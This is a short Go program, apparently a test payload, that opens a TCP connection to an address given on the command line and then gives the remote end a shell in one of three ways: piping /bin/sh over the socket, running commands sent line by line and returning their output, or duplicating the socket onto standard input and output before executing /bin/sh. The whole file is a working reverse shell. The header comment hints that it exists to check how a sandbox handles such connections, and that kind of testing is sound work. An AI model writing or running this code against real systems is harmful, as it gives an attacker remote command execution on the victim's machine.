// SPDX-License-Identifier: Apache-2.0
// remote ADDRESS:PORT shell|run|exec: a payload built with Go, whose runtime connects without
// waiting and starts programs with clone3.
package main

import (
	"bufio"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
)

func main() {
	connection, err := net.Dial("tcp", os.Args[1])
	if err != nil {
		os.Exit(1)
	}
	switch os.Args[2] {
	case "shell":
		command := exec.Command("/bin/sh")
		command.Stdin, command.Stdout, command.Stderr = connection, connection, connection
		command.Run()
	case "run":
		lines := bufio.NewScanner(connection)
		for lines.Scan() && lines.Text() != "exit" {
			words := strings.Fields(lines.Text())
			if len(words) > 0 {
				output, _ := exec.Command(words[0], words[1:]...).CombinedOutput()
				connection.Write(output)
			}
		}
	case "exec":
		file, _ := connection.(*net.TCPConn).File()
		for target := 0; target < 3; target++ {
			syscall.Dup2(int(file.Fd()), target)
		}
		syscall.Exec("/bin/sh", []string{"sh"}, os.Environ())
	}
}
